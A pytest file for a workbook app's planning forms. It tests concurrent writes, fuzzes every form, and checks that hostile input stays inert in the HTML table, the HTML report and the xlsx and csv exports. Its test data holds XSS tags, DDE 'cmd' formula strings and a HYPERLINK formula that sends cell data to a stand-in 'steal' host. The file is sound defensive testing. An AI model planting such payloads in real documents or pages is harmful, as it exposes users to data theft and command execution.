"""Nothing lost, nothing let in — through the forms: four writers at once, and hostile text
from the planning form to the notebook table, the html report and the xlsx and csv exports."""

from __future__ import annotations

import io
import multiprocessing
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from workbook.export import PlanData, export_bytes
from workbook.forms.common import Session
from workbook.forms.planning import PlanningExercise, PlanningForm
from workbook.session import current_plan_id
from workbook.store import Store

WRITERS = 4
ROWS_PER_WRITER = 250

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.invalid/steal?x="&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
]


def _submit_rows(url: str, writer: int, count: int, start, errors) -> None:
    """One participant's kernel: the planning form's own submit, ``count`` times."""
    store = Store(url)
    form = PlanningForm(Session.open(store))
    start.wait()
    for number in range(count):
        form.what.value = f"writer {writer} row {number}"
        form.context.value = "binnen_school"
        form.target_groups.value = ("ouders",)
        form.when.value = date(2026, 5, 1)
        form.price.value = "10"
        if not form.submit():
            errors.put(form.feedback.text)


@pytest.mark.slow
def test_four_writers_through_the_form_lose_and_double_nothing(store: Store, figures):
    plan_id = current_plan_id(store)
    context = multiprocessing.get_context("spawn")
    start, errors = context.Event(), context.Queue()
    writers = [
        context.Process(target=_submit_rows, args=(store.url, n, ROWS_PER_WRITER, start, errors))
        for n in range(WRITERS)
    ]
    for writer in writers:
        writer.start()
    start.set()
    for writer in writers:
        writer.join(timeout=600)
    shown = []
    while not errors.empty():
        shown.append(errors.get())
    rows = store.activities(plan_id)["what"]
    expected = {f"writer {w} row {n}" for w in range(WRITERS) for n in range(ROWS_PER_WRITER)}
    lost, doubled = len(expected - set(rows)), len(rows) - rows.nunique()
    figures(
        "concurrency: writers × rows through the planning form", f"{WRITERS} × {ROWS_PER_WRITER}"
    )
    figures("concurrency: rows stored", len(rows))
    figures("concurrency: rows lost", lost)
    figures("concurrency: rows doubled", doubled)
    figures("concurrency: errors shown to a writer", len(shown))
    assert [writer.exitcode for writer in writers] == [0] * WRITERS
    assert (len(rows), lost, doubled, shown) == (WRITERS * ROWS_PER_WRITER, 0, 0, [])
    assert store.integrity() == "ok"


@pytest.fixture
def hostile_plan(demo_store: Store) -> Store:
    exercise = PlanningExercise()
    form = exercise.form
    for text in HOSTILE:
        form.what.value = text
        form.context.value = "tussen_partners"
        form.target_groups.value = ("ouders",)
        form.when.value = date(2026, 6, 1)
        form.responsible.value = text[:100]
        assert form.submit(), form.feedback.text
    return demo_store


def test_hostile_text_is_shown_as_text_in_the_notebook_table(hostile_plan: Store, figures):
    html = PlanningExercise().table.value
    for text in ("<script>", "<img src=x"):
        assert text not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    figures("hostile text: raw tags in the notebook table", 0)


def test_hostile_text_is_escaped_in_the_html_report(hostile_plan: Store, figures):
    report = export_bytes(PlanData.from_store(hostile_plan), ".html", charts=False).decode()
    assert "<script>alert" not in report and "<img src=x" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    figures("hostile text: raw tags in the html report", 0)


def test_hostile_text_never_becomes_a_formula_in_xlsx_or_csv(hostile_plan: Store, figures):
    data = PlanData.from_store(hostile_plan)
    book = load_workbook(io.BytesIO(export_bytes(data, ".xlsx")))
    formulas = [
        cell.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith("=") and cell.data_type != "s")
    ]
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert formulas == []
    assert set(HOSTILE) <= texts  # kept as the participant typed it, as text
    csv_text = export_bytes(data, ".csv").decode("utf-8-sig")
    cells = [cell for line in csv_text.splitlines() for cell in line.split(";")]
    live = [
        cell
        for cell in cells
        if cell.strip('"')[:1] in ("=", "+", "-", "@")
        and not cell.strip('"').lstrip("-").replace(",", "").replace(".", "").isdigit()
    ]
    assert live == []
    figures("hostile text: formulas in xlsx", len(formulas))
    figures("hostile text: live formulas in csv", len(live))


# ----- every form, fuzzed the way a participant can fill it ------------------------------

FORM_EXAMPLES = 150
_form_counts: dict[str, list[int]] = {}


def _form_classes():
    from workbook.forms.channels import ChannelsForm
    from workbook.forms.effects import GoalForm, IndicatorForm
    from workbook.forms.groups import GroupsForm
    from workbook.forms.plan import PlanForm
    from workbook.forms.progress import MeasurementForm

    return [
        PlanningForm,
        GoalForm,
        IndicatorForm,
        MeasurementForm,
        PlanForm,
        GroupsForm,
        ChannelsForm,
    ]


any_typed_text = st.one_of(
    st.integers(0, 10**6).map(str),
    st.text(alphabet=st.characters(categories=["L", "N", "Zs", "P"]), min_size=1, max_size=40),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=400),
    st.sampled_from(
        [
            "",
            " ",
            "-5",
            "1.250,50",
            "€ 300",
            "1e309",
            "NaN",
            "=SUM(1)",
            "\x00",
            "<script>alert(1)</script>",
            "250",
        ]
    ),
)


def _fill(draw, form) -> None:
    """Put what a person could put in each widget: any typed text, any picked date, any
    choice the dropdowns and check boxes offer. Choices are drawn as positions, so the
    drawing does not depend on what earlier examples stored."""
    import ipywidgets as widgets

    from workbook.forms.common import CheckGroup

    for name, widget in form.fields.items():
        holder = getattr(form, name, None)
        if isinstance(holder, CheckGroup):
            keys = [key for _, key in holder.options]
            picks = draw(st.lists(st.integers(0, 999), max_size=4))
            holder.value = tuple(dict.fromkeys(keys[p % len(keys)] for p in picks)) if keys else ()
        elif isinstance(widget, widgets.Text | widgets.Textarea):
            widget.value = draw(any_typed_text)
        elif isinstance(widget, widgets.DatePicker):
            widget.value = draw(st.one_of(
                st.dates(min_value=date(2024, 1, 1), max_value=date(2030, 12, 31)),
                st.none(), st.dates(),
            ))
        elif isinstance(widget, widgets.Dropdown | widgets.ToggleButtons):
            values = [o[1] if isinstance(o, tuple) else o for o in widget.options]
            pick = draw(st.integers(0, 999))
            if values:
                widget.value = values[pick % len(values)]


@pytest.mark.parametrize("position", range(7), ids=lambda n: f"form{n}")
def test_any_form_input_is_stored_valid_or_refused_with_nothing_stored(
    position, demo_store, figures
):
    form_class = _form_classes()[position]
    form = form_class(Session.open(demo_store))
    counts = _form_counts.setdefault(form_class.__name__, [0, 0])

    @settings(
        max_examples=FORM_EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(st.data())
    def check(data):
        counts[0] += 1
        _fill(data.draw, form)
        before = demo_store.revisions()
        stored = form.submit()
        after = demo_store.revisions()
        if stored:  # (a group that is already chosen is "added" without a write)
            counts[1] += 1
        else:
            assert after == before, "a refused entry changed the store"
            assert form.feedback.text.strip()

    check()
    assert demo_store.integrity() == "ok"
    tables = demo_store.plan_tables(current_plan_id(demo_store))
    for activity in tables["activities"].itertuples():
        assert activity.what.strip() and activity.price >= 0 and activity.target_groups


def test_form_fuzz_figures(figures):
    for name, (count, stored) in sorted(_form_counts.items()):
        figures(f"form fuzz: {name} entries (stored)", f"{count} ({stored})")
    figures("form fuzz: entries in total", sum(count for count, _ in _form_counts.values()))
